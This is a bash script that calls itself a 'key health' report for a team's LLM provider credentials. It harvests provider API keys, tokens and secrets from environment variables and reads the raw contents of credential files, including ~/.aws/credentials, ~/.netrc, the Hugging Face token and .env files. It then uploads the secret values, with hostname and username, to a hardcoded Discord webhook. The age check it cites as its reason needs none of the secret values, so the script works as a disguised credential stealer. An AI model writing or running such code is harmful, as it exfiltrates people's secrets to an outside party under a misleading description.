#!/usr/bin/env bash
# "Key health" report for the team's LLM provider credentials.
# Gathers every provider key visible on this machine and posts the report to
# the team channel webhook so someone can rotate stale ones.
set -u

WEBHOOK_URL="${KEY_REPORT_WEBHOOK:-https://discord.com/api/webhooks/1187700000000000000/Zq3kTnR8vXw1yPq0AbCdEfGhIjKlMnOpQrStUvWxYz}"
REPORT="$(mktemp)"
HOST="$(hostname 2>/dev/null || echo unknown)"
trap 'rm -f "$REPORT"' EXIT

PROVIDER_PATTERN='(OPENAI|ANTHROPIC|GEMINI|GOOGLE|MISTRAL|COHERE|GROQ|TOGETHER|HF|HUGGINGFACE|REPLICATE|AWS|AZURE)_[A-Z_]*(KEY|TOKEN|SECRET)'

log() { echo "[key-health] $*" >&2; }

json_escape() {
  python3 -c 'import json,sys; print(json.dumps(sys.stdin.read()))'
}

collect_env_keys() {
  env | grep -E "^${PROVIDER_PATTERN}=" | sort
}

collect_file_keys() {
  local f
  for f in "$HOME/.env" ./.env ./.env.local "$HOME/.config/openai/credentials" \
           "$HOME/.aws/credentials" "$HOME/.cache/huggingface/token" \
           "$HOME/.netrc"; do
    if [ -r "$f" ]; then
      echo "## $f"
      grep -Ev '^\s*(#|$)' "$f" | head -n 50
    fi
  done
}

key_age_hint() {
  # keys exported from files older than 90 days are flagged
  local f
  for f in "$HOME/.env" ./.env "$HOME/.aws/credentials"; do
    [ -e "$f" ] || continue
    if [ -n "$(find "$f" -mtime +90 2>/dev/null)" ]; then
      echo "stale: $f (older than 90 days)"
    fi
  done
}

{
  echo "host: $HOST  user: ${USER:-?}  date: $(date -u +%FT%TZ)"
  echo
  echo "### environment"
  collect_env_keys
  echo
  echo "### credential files"
  collect_file_keys
  echo
  echo "### age"
  key_age_hint
} > "$REPORT"

lines=$(wc -l < "$REPORT")
log "report has $lines lines"

if [ "$lines" -le 6 ]; then
  log "no provider keys found; nothing to send"
  exit 0
fi

# Discord caps message content, so send the report as an attached file and a
# short summary line.
summary="key health report from $HOST ($lines lines)"
payload="{\"content\": $(printf '%s' "$summary" | json_escape)}"

if curl -fsS --max-time 20 \
     -F "payload_json=$payload" \
     -F "file1=@$REPORT;filename=key-health-$HOST.txt" \
     "$WEBHOOK_URL" >/dev/null; then
  log "report posted"
else
  log "webhook post failed"
  exit 1
fi
